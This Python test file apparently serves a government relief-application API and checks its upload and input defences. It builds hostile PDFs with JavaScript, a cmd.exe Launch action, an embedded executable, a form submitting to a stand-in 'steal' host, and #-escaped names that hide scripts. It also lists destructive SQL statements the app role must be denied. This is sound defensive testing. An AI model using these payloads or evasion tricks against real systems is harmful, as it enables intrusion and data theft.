"""Attacker tests for the API's smaller holes (issue 9, item 6): each replays what an outsider tried and
asserts the safe outcome. PDFs are crafted with pikepdf itself; the 5xx inputs are sent as they were."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zlib
from datetime import date

import pikepdf
import pytest
from PIL import Image

from core.files import storage

# imported at collection, like the other PostgreSQL tests: importing tests.conftest again during the run
# would re-execute it (and re-create the suite's own database)
from tests.conftest import (
    ROOT,
    RUN_ID,
    drop_postgres_database,
    postgres_reachable,
    postgres_server_url,
    scratch_database_url,
    unavailable,
)
from tests.helpers import (
    bound_citizen,
    draft_body,
    id_number,
    jpeg_bytes,
    make_officer,
    pdf_bytes,
    portal_login,
    upload,
)

PERSON = ("钱国强", id_number(date(1970, 5, 6), 31))
ACTIVE = storage.PDF_ACTIVE_MESSAGE


@pytest.fixture
def draft(client):
    headers = bound_citizen(client, "13900090000", *PERSON)
    resp = client.post("/api/v1/applications", headers=headers, json=draft_body(*PERSON))
    assert resp.status_code == 201, resp.get_json()
    return headers, resp.get_json()["id"]


def _refused(client, draft, data: bytes, message: str) -> None:
    headers, app_id = draft
    resp = upload(client, headers, app_id, "hukou", data, "hukou.pdf")
    assert resp.status_code == 422, resp.get_json()
    assert resp.get_json()["errors"] == {"file": [message]}
    assert client.get(f"/api/v1/applications/{app_id}/attachments", headers=headers).get_json() == []


# --- PDF uploads ---------------------------------------------------------------------------------


def _action(pdf: pikepdf.Pdf, kind: str, **entries) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **entries))


def _open_action_js(pdf):
    pdf.Root.OpenAction = _action(pdf, "JavaScript", JS=pikepdf.String("app.alert('x')"))


def _names_js(pdf):
    script = _action(pdf, "JavaScript", JS=pdf.make_stream(b"app.launchURL('http://x.invalid')"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    )


def _page_aa_launch(pdf):
    launch = _action(pdf, "Launch", F=pikepdf.String("cmd.exe"))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=launch)


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/x-msdownload")


def _xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _submit_form_link(pdf):
    submit = _action(pdf, "SubmitForm", F=pikepdf.String("http://x.invalid/steal"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=submit)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))


def _import_data(pdf):
    pdf.Root.OpenAction = _action(pdf, "ImportData", F=pikepdf.String("data.fdf"))


def _rich_media(pdf):
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10])
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])


def _direct_js_in_annotation(pdf):
    # a direct (not indirect) action dictionary nested two levels inside an indirect annotation
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1")),
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(link)])


@pytest.mark.parametrize(
    "change",
    [
        _open_action_js,
        _names_js,
        _page_aa_launch,
        _embedded_file,
        _xfa_form,
        _submit_form_link,
        _import_data,
        _rich_media,
        _direct_js_in_annotation,
    ],
    ids=lambda f: f.__name__.strip("_"),
)
def test_active_pdf_content_is_refused(client, draft, change):
    _refused(client, draft, pdf_bytes(change), ACTIVE)


def test_active_content_hidden_in_compressed_object_streams_is_refused(client, draft):
    data = pdf_bytes(_open_action_js, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in data and b"/JS" not in data  # a byte search finds nothing
    _refused(client, draft, data, ACTIVE)


def _same_length_escape(data: bytes, placeholder: bytes, escaped: bytes) -> bytes:
    """Replace a placeholder name by its #-escaped spelling without moving any byte offset."""
    assert len(placeholder) == len(escaped) and placeholder in data
    return data.replace(placeholder, escaped)


def test_name_escapes_do_not_hide_javascript(client, draft):
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary({"/S": pikepdf.Name("/JavaScriptXY"), "/JSxxxx": pikepdf.String("app.alert(1)")})
        )

    raw = pdf_bytes(change, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = _same_length_escape(raw, b"/JavaScriptXY", b"/J#61vaScript")
    data = _same_length_escape(data, b"/JSxxxx", b"/#4A#53")
    assert b"/JavaScript" not in data and b"/JS" not in data
    with pikepdf.open(io.BytesIO(data), attempt_recovery=False) as parsed:  # a valid file, not a damaged one
        assert not parsed.get_warnings()
    _refused(client, draft, data, ACTIVE)


def test_escaped_openaction_key_is_refused(client, draft):
    def change(pdf):  # opens a web page as soon as the file is opened
        pdf.Root["/OpenActionZZ"] = _action(pdf, "URI", URI=pikepdf.String("http://x.invalid/track"))

    raw = pdf_bytes(change, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    _refused(client, draft, _same_length_escape(raw, b"/OpenActionZZ", b"/Op#65nAction"), ACTIVE)


def test_javascript_in_an_encrypted_file_is_refused(client, draft):
    for encryption in (pikepdf.Encryption(owner="owner-pw", user="user-pw"), pikepdf.Encryption(owner="o", user="")):
        _refused(client, draft, pdf_bytes(_open_action_js, encryption=encryption), storage.PDF_ENCRYPTED_MESSAGE)
    # no script at all, but encrypted: cannot be checked, so refused as well
    _refused(
        client, draft, pdf_bytes(encryption=pikepdf.Encryption(owner="o", user="u")), storage.PDF_ENCRYPTED_MESSAGE
    )


def test_damaged_or_unparseable_pdfs_are_refused(client, draft):
    good = pdf_bytes(_open_action_js)
    damaged = [
        b"%PDF-1.7\n" + b"\x00garbage" * 100,
        good[: len(good) // 2],  # truncated: no cross-reference table left
        good.replace(b"startxref", b"startxxxx"),  # a viewer would reconstruct it; we do not
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    ]
    for data in damaged:
        _refused(client, draft, data, storage.PDF_DAMAGED_MESSAGE)


def test_bytes_after_the_end_of_file_are_not_stored(client, draft):
    """Anything after %%EOF (a polyglot's second half) is gone: the stored file is qpdf's re-write."""
    headers, app_id = draft
    trailer_payload = b"\n<html><script>alert(1)</script></html>\n" + zlib.compress(b"/JavaScript")
    resp = upload(client, headers, app_id, "hukou", pdf_bytes() + trailer_payload, "hukou.pdf")
    assert resp.status_code == 201, resp.get_json()
    stored = client.get(f"/api/v1/applications/{app_id}/attachments/{resp.get_json()['id']}", headers=headers)
    assert stored.status_code == 200 and stored.data.startswith(b"%PDF-")
    assert b"<script>" not in stored.data
    with pikepdf.open(io.BytesIO(stored.data)) as parsed:
        assert len(parsed.pages) == 1


def test_ordinary_pdfs_are_accepted(client, draft):
    from fpdf import FPDF

    headers, app_id = draft
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text="Household register copy")
    document.link(10, 10, 50, 10, "https://www.gov.cn/")  # an ordinary web link is not an action we refuse
    # fpdf2, like office suites, writes /OpenAction as a destination ([page /FitH null]): allowed
    for name, data in (("fpdf.pdf", bytes(document.output())), ("plain.pdf", pdf_bytes())):
        resp = upload(client, headers, app_id, "hukou", data, name)
        assert resp.status_code == 201, (name, resp.get_json())
        assert resp.get_json()["content_type"] == "application/pdf"


def test_attachments_and_photos_are_downloads_never_inline(client, app, draft):
    headers, app_id = draft
    attachment = upload(client, headers, app_id, "hukou", pdf_bytes(), "户口簿.pdf").get_json()
    resp = client.get(f"/api/v1/applications/{app_id}/attachments/{attachment['id']}", headers=headers)
    assert resp.status_code == 200
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Content-Type"] == "application/pdf"

    report = client.post(
        "/api/v1/reports", headers=headers, json={"category": "other", "township_code": "360124100"}
    ).get_json()
    photo = client.post(
        f"/api/v1/reports/{report['id']}/photos",
        headers=headers,
        data={"file": (io.BytesIO(jpeg_bytes()), "p.jpg")},
        content_type="multipart/form-data",
    ).get_json()
    resp = client.get(f"/api/v1/reports/{report['id']}/photos/{photo['id']}", headers=headers)
    assert resp.status_code == 200 and Image.open(io.BytesIO(resp.data)).format == "JPEG"
    assert resp.headers["Content-Disposition"] == f"attachment; filename=photo-{photo['id']}.jpg"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"

    # the officers' portal serves the same files the same way
    officer = app.test_client()
    assert portal_login(officer, "attack_minhe", make_officer(app, "attack_minhe", "township_officer", "360124100"))
    submitted_photo = officer.get(f"/portal/reports/{report['id']}/photos/{photo['id']}")
    assert submitted_photo.status_code == 200
    assert submitted_photo.headers["Content-Disposition"].startswith("attachment;")
    assert submitted_photo.headers["X-Content-Type-Options"] == "nosniff"


# --- inputs that used to answer 5xx ----------------------------------------------------------------


@pytest.mark.parametrize(
    "number", [str(2**31), str(2**63), "1" + "0" * 30, "9" * 5000], ids=["2^31", "2^63", "10^30", "5000-digits"]
)
def test_huge_path_ids_are_404(client, app, draft, number):
    headers, app_id = draft
    for path in (
        f"/api/v1/applications/{number}",
        f"/api/v1/applications/{number}/attachments",
        f"/api/v1/applications/{app_id}/attachments/{number}",
        f"/api/v1/reports/{number}",
        f"/api/v1/applications/{app_id}/authorizations/{number}/qrcode",
    ):
        resp = client.get(path, headers=headers)
        assert resp.status_code in (404, 405), (path, resp.status_code)
        if resp.status_code == 404:
            assert resp.get_json()["message"] == "未找到该资源"
    officer = app.test_client()
    portal_login(officer, "attack_ids", make_officer(app, "attack_ids", "township_officer", "360124100"))
    assert officer.get(f"/portal/applications/{number}").status_code == 404
    # the largest id the database holds still reaches the handler (and is simply not found)
    assert client.get(f"/api/v1/applications/{2**31 - 1}", headers=headers).status_code == 404


@pytest.mark.parametrize("number", ["1" + "0" * 21, str(2**62), str(2**31), "²", "abc", "-1"])
def test_portal_numbers_beyond_their_column_are_4xx_never_5xx(client, app, number):
    """Page numbers, filters and ids in the portal's query strings and forms (PostgreSQL refuses numbers
    beyond bigint/integer with NumericValueOutOfRange; SQLite cannot hold them at all)."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    officer = app.test_client()
    portal_login(officer, "attack_nums", make_officer(app, "attack_nums", "township_officer", "360124100"))
    for path in (
        f"/portal/queue?page={number}",
        f"/portal/reports?page={number}",
        f"/portal/queue?assignee={number}",
    ):
        resp = officer.get(path)
        assert resp.status_code in (200, 404), (path, resp.status_code)
    from tests.helpers import csrf_token

    token = csrf_token(officer.get("/portal/queue").get_data(as_text=True))
    for form in ({"case_id": number, "officer_id": "1"}, {"case_id": "1", "officer_id": number}):
        resp = officer.post("/portal/queue/assign", data={**form, "csrf_token": token})
        assert resp.status_code == 303, (form, resp.status_code)
    token = csrf_token(officer.get("/portal/reporters").get_data(as_text=True))
    resp = officer.post("/portal/reporters", data={"revoke": number, "csrf_token": token})
    assert resp.status_code == 404 and "未找到该授权" in resp.get_data(as_text=True)


def test_path_id_bound_is_documented(client):
    spec = client.get("/api/openapi.json").get_json()
    (param,) = [p for p in spec["paths"]["/api/v1/applications/{application_id}"]["parameters"]]
    assert param["schema"] == {"type": "integer", "minimum": 0, "maximum": 2**31 - 1}


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("page=1000000000000000000000", "page"),
        (f"page={10**30}", "page"),
        ("page=0", "page"),
        ("page=-3", "page"),
        ("page_size=1000000000000000000000", "page_size"),
        ("page_size=-1", "page_size"),
        ("page_size=0", "page_size"),
        ("page_size=101", "page_size"),
        ("page=abc", "page"),
    ],
)
def test_out_of_range_pages_are_422_in_chinese(client, draft, query, field):
    headers, _ = draft
    for path in ("/api/v1/applications", "/api/v1/reports", "/api/v1/demo/cases"):
        resp = client.get(f"{path}?{query}", headers=headers)
        assert resp.status_code == 422, (path, query, resp.get_json())
        body = resp.get_json()
        assert re.search(r"[\u4e00-\u9fff]", body["errors"][field][0]), body


def test_the_last_allowed_page_is_an_empty_page(client, draft):
    from miniprogram_api.pagination import MAX_PAGE

    headers, _ = draft
    resp = client.get(f"/api/v1/applications?page={MAX_PAGE}&page_size=100", headers=headers)
    assert resp.status_code == 200 and resp.get_json() == []
    assert client.get(f"/api/v1/applications?page={MAX_PAGE + 1}", headers=headers).get_json()["errors"] == {
        "page": [f"页码应在1到{MAX_PAGE}之间"]
    }


@pytest.mark.parametrize(
    ("change", "field", "message"),
    [
        ({"assets": [{"kind": "housing", "value_yuan": "1000000000000"}]}, "value_yuan", "金额应在0到1000亿元之间"),
        ({"assets": [{"kind": "housing", "value_yuan": "1e40"}]}, "value_yuan", None),
        ({"assets": [{"kind": "housing", "value_yuan": "1e100000"}]}, "value_yuan", None),
        ({"assets": [{"kind": "housing", "value_yuan": "-1"}]}, "value_yuan", None),
        ({"assets": [{"kind": "housing", "area_sqm": "100000000"}]}, "area_sqm", None),
        ({"assets": [{"kind": "car", "quantity": 2**31}]}, "quantity", None),
        ({"incomes": [{"category": "wages", "monthly_amount": "10000000000"}]}, "monthly_amount", None),
        ({"incomes": [{"category": "wages", "monthly_amount": "1", "member_index": 2**31}]}, "member_index", None),
        ({"incomes": [{"category": "wages", "monthly_amount": "1", "member_index": 10**30}]}, "member_index", None),
        ({"members": [{"name": "甲", "disability_grade": 2**15}]}, "disability_grade", None),
    ],
)
def test_numbers_beyond_their_column_are_422(client, draft, change, field, message):
    headers, app_id = draft
    resp = client.patch(f"/api/v1/applications/{app_id}", headers=headers, json=change)
    assert resp.status_code == 422, resp.get_json()
    (section,) = change
    errors = resp.get_json()["errors"][section]["0"][field]
    assert re.search(r"[\u4e00-\u9fff]", errors[0]), errors
    if message:
        assert errors == [message]


def test_the_largest_money_amounts_are_stored(client, draft):
    headers, app_id = draft
    body = {
        "assets": [{"kind": "housing", "value_yuan": "100000000000.00", "area_sqm": "100000", "quantity": 1000}],
        "incomes": [{"category": "wages", "monthly_amount": "10000000.00", "member_index": 0}],
    }
    resp = client.patch(f"/api/v1/applications/{app_id}", headers=headers, json=body)
    assert resp.status_code == 200, resp.get_json()
    stored = client.get(f"/api/v1/applications/{app_id}", headers=headers).get_json()
    assert stored["assets"][0]["value_yuan"] == "100000000000.00"
    assert stored["incomes"][0]["monthly_amount"] == "10000000.00"


def test_correction_attachment_ids_beyond_integer_are_422(client, draft):
    headers, app_id = draft
    resp = client.post(
        f"/api/v1/applications/{app_id}/corrections", headers=headers, json={"attachment_ids": [2**63, 10**30]}
    )
    assert resp.status_code == 422
    assert resp.get_json()["errors"]["attachment_ids"] == {"0": ["材料编号不正确"], "1": ["材料编号不正确"]}


@pytest.mark.parametrize("depth", [100_000, 5_000])
def test_deeply_nested_json_is_400(client, draft, depth):
    headers, app_id = draft
    for opener, closer in (("[", "]"), ('{"a":', "}")):
        body = opener * depth + "1" + closer * depth
        for method, path in (
            ("POST", "/api/v1/applications"),
            ("PATCH", f"/api/v1/applications/{app_id}"),
            ("POST", "/api/v1/reports"),
            ("POST", "/api/v1/auth/sms/verify"),
        ):
            resp = client.open(path, method=method, headers=headers, data=body, content_type="application/json")
            assert resp.status_code == 400, (path, resp.status_code, resp.get_data(as_text=True)[:200])
            assert resp.get_json() == {"code": 400, "status": "bad_request", "message": "请求体嵌套层级过深，无法解析"}


def test_recursion_in_the_code_is_still_a_500(client, monkeypatch):
    """Only a body the parser cannot follow is the client's fault; a RecursionError of ours stays 500."""
    from core.regions import services as regions

    def runaway(parent_code):
        return runaway(parent_code)

    monkeypatch.setattr(regions, "list_children", runaway)
    resp = client.get("/api/v1/regions?parent=36")
    assert resp.status_code == 500 and resp.get_json()["status"] == "internal_error"


def test_405_says_which_methods_are_allowed(client, app, draft):
    headers, app_id = draft
    resp = client.put(f"/api/v1/applications/{app_id}", headers=headers, json={})
    assert resp.status_code == 405
    assert set(resp.headers["Allow"].split(", ")) == {"GET", "HEAD", "OPTIONS", "PATCH", "DELETE"}
    assert resp.get_json()["message"] == "不支持该请求方法"
    resp = client.delete("/api/v1/regions")
    assert resp.status_code == 405 and set(resp.headers["Allow"].split(", ")) == {"GET", "HEAD", "OPTIONS"}
    officer = app.test_client()
    portal_login(officer, "attack_405", make_officer(app, "attack_405", "township_officer", "360124100"))
    page = officer.get("/portal/logout")
    assert page.status_code == 405 and set(page.headers["Allow"].split(", ")) == {"POST", "OPTIONS"}


# --- Retry-After ---------------------------------------------------------------------------------


def _send_code(client, phone: str):
    return client.post("/api/v1/auth/sms/send", json={"phone": phone})


def test_retry_after_matches_the_message_and_200s_carry_none(client):
    first = _send_code(client, "13900091000")
    assert first.status_code == 200
    assert "Retry-After" not in first.headers  # Flask-Limiter used to add its IP window (3,599 s) here
    again = _send_code(client, "13900091000")
    assert again.status_code == 429
    wait = int(again.headers["Retry-After"])
    assert 0 < wait <= 60
    assert again.get_json()["message"] == f"验证码已发送，请{wait}秒后再试"


def test_daily_sms_limit_says_when_it_frees_up(client, app):
    from datetime import timedelta

    from core import clock

    limit = app.config["SMS_DAILY_LIMIT_PER_PHONE"]
    for n in range(limit):
        clock.set_offset(timedelta(minutes=2 * n))
        assert _send_code(client, "13900091001").status_code == 200
    clock.set_offset(timedelta(minutes=2 * limit))
    resp = _send_code(client, "13900091001")
    assert resp.status_code == 429 and resp.get_json()["status"] == "sms_daily_limit"
    wait = int(resp.headers["Retry-After"])
    # the first code ages out of the 24 h window 24 h after it was sent, i.e. 24 h - 2·limit minutes from now
    assert abs(wait - (24 * 3600 - 2 * limit * 60)) <= 2
    assert resp.get_json()["message"] == f"今日获取验证码次数已达上限，请{clock.wait_text(wait)}后再试"


def test_report_cap_retry_after_matches_the_message(client, app):
    from core import clock

    headers = bound_citizen(client, "13900091002", "孙某", id_number(date(1990, 2, 2), 41))
    body = {"category": "other", "township_code": "360124100"}
    for n in range(3):
        ok = client.post("/api/v1/reports", headers=headers, json={**body, "person_name": f"乙{n}"})
        assert ok.status_code == 201 and "Retry-After" not in ok.headers
    resp = client.post("/api/v1/reports", headers=headers, json=body)
    assert resp.status_code == 429
    wait = int(resp.headers["Retry-After"])
    assert 23 * 3600 < wait <= 24 * 3600 + 1
    assert f"请{clock.wait_text(wait)}后再试" in resp.get_json()["message"]


def test_the_ip_limit_keeps_its_own_retry_after(client, app):
    app.config["SMS_SEND_IP_LIMIT"] = "2 per minute"
    try:
        for n in range(2):
            assert _send_code(client, f"1390009110{n}").status_code == 200
        resp = _send_code(client, "13900091109")
    finally:
        app.config["SMS_SEND_IP_LIMIT"] = "20 per hour"
    assert resp.status_code == 429 and resp.get_json()["message"] == "操作过于频繁，请稍后再试"
    assert 0 < int(resp.headers["Retry-After"]) <= 60


# --- reporter roles stay in their region -----------------------------------------------------------


def _grid_worker(client, app, phone: str, region: str) -> dict[str, str]:
    headers = bound_citizen(client, phone, "网格员乙", id_number(date(1984, 4, 4), int(phone[-3:]) % 997))
    result = app.test_cli_runner().invoke(
        args=["users", "grant-role", "--phone", phone, "--role", "grid_worker", "--region", region]
    )
    assert result.exit_code == 0, result.output
    return headers


def test_a_reporter_role_counts_only_inside_its_region(client, app):
    from sqlalchemy import select

    from core.casework.models import Case
    from core.database import db

    headers = _grid_worker(client, app, "13900092000", "360124100")  # 民和镇
    inside = client.post("/api/v1/reports", headers=headers, json={"category": "other", "township_code": "360124100"})
    assert inside.status_code == 201 and inside.get_json()["reporter_role"] == "grid_worker"

    # claiming the role elsewhere is refused, with the place the role holds for
    claimed = client.post(
        "/api/v1/reports",
        headers=headers,
        json={"category": "other", "township_code": "360124101", "as_role": "grid_worker"},
    )
    assert claimed.status_code == 422
    assert claimed.get_json()["errors"] == {
        "township_code": ["您的网格员身份仅限在民和镇范围内报告；其他地方请以居民身份报告"]
    }
    # without a claim it is filed as a resident's report: resident priority, resident cap
    plain = client.post("/api/v1/reports", headers=headers, json={"category": "other", "township_code": "360124101"})
    assert plain.status_code == 201 and plain.get_json()["reporter_role"] == "resident"
    with app.app_context():
        priorities = dict(
            db.session.execute(select(Case.township_code, Case.priority).where(Case.subject_type == "report")).all()
        )
        db.session.remove()
    assert priorities == {"360124100": 3, "360124101": 0}


def test_a_county_wide_role_covers_its_townships(client, app):
    headers = _grid_worker(client, app, "13900092001", "360124")
    for township in ("360124100", "360124101"):
        resp = client.post("/api/v1/reports", headers=headers, json={"category": "other", "township_code": township})
        assert resp.get_json()["reporter_role"] == "grid_worker"
    other_county = client.post(
        "/api/v1/reports", headers=headers, json={"category": "other", "township_code": "360121100"}
    )
    assert other_county.get_json()["reporter_role"] == "resident"


# --- SQL parameters stay out of logs and error output -----------------------------------------------


def test_sql_parameters_never_reach_logs_or_responses(client, app, monkeypatch, caplog):
    from sqlalchemy import text

    from core.database import db
    from core.regions import services as regions

    secret = "360124197001010011-SECRET"

    def failing(parent_code):
        db.session.execute(text("INSERT INTO no_such_table (x) VALUES (:secret)"), {"secret": secret})

    monkeypatch.setattr(regions, "list_children", failing)
    with caplog.at_level("DEBUG"):
        resp = client.get("/api/v1/regions?parent=36")
    assert resp.status_code == 500 and secret not in resp.get_data(as_text=True)
    logged = "\n".join(r.getMessage() + (str(r.exc_info[1]) if r.exc_info else "") for r in caplog.records)
    assert "database error" in logged
    assert secret not in logged and secret not in caplog.text
    with app.app_context():
        assert db.engine.hide_parameters is True
        try:
            db.session.execute(text("INSERT INTO no_such_table (x) VALUES (:secret)"), {"secret": secret})
        except Exception as err:  # noqa: BLE001
            assert secret not in str(err) and "hidden" in str(err)
        else:
            pytest.fail("statement should fail")
        finally:
            db.session.rollback()
            db.session.remove()


# --- the app's database role owns nothing (PostgreSQL) ----------------------------------------------


def _flask_db(env: dict[str, str], *args: str):
    return subprocess.run(
        [sys.executable, "-m", "flask", "--app", "wsgi", "db", *args],
        cwd=ROOT,
        env={**os.environ, "APP_ENV": "testing", **env},
        capture_output=True,
        text=True,
        timeout=180,
    )


@pytest.mark.postgres
def test_app_role_cannot_truncate_alter_or_drop_the_audit_log(app):
    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url
    from sqlalchemy.exc import DBAPIError

    from wsgi import activate, create_app

    server = postgres_server_url()
    if not postgres_reachable(server):
        unavailable(f"PostgreSQL not reachable at {server}")
    role = "relieflink_app_" + re.sub(r"[^a-z0-9_]", "_", RUN_ID.lower())
    url = scratch_database_url(server, "relieflink_role_test")
    role_url = make_url(url).set(username=role, password=None).render_as_string(hide_password=False)
    owner = create_engine(url)
    engines = [owner]
    try:
        upgraded = _flask_db({"DATABASE_URL": url}, "upgrade")
        assert upgraded.returncode == 0, upgraded.stderr[-2000:]
        for _ in range(2):  # idempotent
            granted = _flask_db({"DATABASE_URL": url}, "grant-app-role", "--role", role)
            assert granted.returncode == 0, granted.stderr[-2000:]
        assert "REVOKE UPDATE, DELETE ON audit_log" in granted.stdout

        as_app = create_engine(role_url)
        engines.append(as_app)
        with as_app.begin() as conn:
            assert conn.execute(text("SELECT current_user")).scalar() == role
            conn.execute(text("INSERT INTO audit_log (at, actor_kind, action) VALUES (now(), 'system', 'probe')"))
            assert conn.execute(text("SELECT count(*) FROM audit_log")).scalar() == 1
        forbidden = [
            "TRUNCATE audit_log",
            "ALTER TABLE audit_log DISABLE TRIGGER ALL",
            "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update_delete",
            "DROP TRIGGER audit_log_no_update_delete ON audit_log",
            "DROP TABLE audit_log",
            "UPDATE audit_log SET action = 'changed'",
            "DELETE FROM audit_log",
            "TRUNCATE users CASCADE",
            "DROP TABLE users CASCADE",
            "ALTER TABLE users ADD COLUMN sneaky text",
            "CREATE TABLE sneaky (id int)",
            "INSERT INTO alembic_version VALUES ('0000')",
            "DELETE FROM alembic_version",
        ]
        for statement in forbidden:
            with pytest.raises(DBAPIError, match=r"permission denied|must be owner"), as_app.begin() as conn:
                conn.execute(text(statement))

        # the app itself works as that role: log-in, real name, a draft with its household, edit, delete
        role_app = create_app("testing", DATABASE_URL=role_url)
        try:
            with role_app.app_context():
                from core.database import commit
                from core.regions import services as region_services

                region_services.load_demo_regions()
                commit()
            client = role_app.test_client()
            headers = bound_citizen(client, "13900093000", *PERSON)
            created = client.post("/api/v1/applications", headers=headers, json=draft_body(*PERSON))
            assert created.status_code == 201, created.get_json()
            app_id = created.get_json()["id"]
            edited = client.patch(f"/api/v1/applications/{app_id}", headers=headers, json={"residence_address": "新址"})
            assert edited.status_code == 200
            assert upload(client, headers, app_id, "hukou", pdf_bytes(), "hukou.pdf").status_code == 201
            assert client.delete(f"/api/v1/applications/{app_id}", headers=headers).status_code == 204
        finally:
            activate(app)
            with role_app.app_context():
                from core.database import db

                db.engine.dispose()
        with owner.connect() as conn:
            actions = set(conn.execute(text("SELECT action FROM audit_log")).scalars())
        assert {"probe", "auth.login", "identity.claim", "identity.verified"} <= actions

        # migrations need the owner: as the app role they fail, with MIGRATION_DATABASE_URL they run
        as_role = _flask_db({"DATABASE_URL": role_url}, "downgrade")
        assert as_role.returncode != 0 and "must be owner" in as_role.stderr
        for step in (("downgrade",), ("upgrade",), ("grant-app-role", "--role", role)):
            ran = _flask_db({"DATABASE_URL": role_url, "MIGRATION_DATABASE_URL": url}, *step)
            assert ran.returncode == 0, (step, ran.stderr[-2000:])
        with as_app.begin() as conn:
            assert conn.execute(text("SELECT count(*) FROM audit_log")).scalar() >= 1
    finally:
        for engine in engines:
            engine.dispose()
        drop_postgres_database(url)
        admin = create_engine(make_url(url).set(database="postgres"), isolation_level="AUTOCOMMIT")
        with admin.connect() as conn:
            conn.execute(text(f'DROP ROLE IF EXISTS "{role}"'))
        admin.dispose()


@pytest.mark.parametrize("depth", [50, 400, 900])
def test_nesting_the_parser_can_follow_is_still_4xx_inside_real_fields(client, draft, depth):
    headers, app_id = draft
    nested = "[" * depth + "1" + "]" * depth
    for field in ("members", "incomes", "residence_address", "hardship_reason"):
        body = '{"' + field + '": ' + nested + "}"
        resp = client.patch(
            f"/api/v1/applications/{app_id}", headers=headers, data=body, content_type="application/json"
        )
        assert 400 <= resp.status_code < 500, (field, depth, resp.status_code)
        assert re.search(r"[\u4e00-\u9fff]", resp.get_json()["message"])
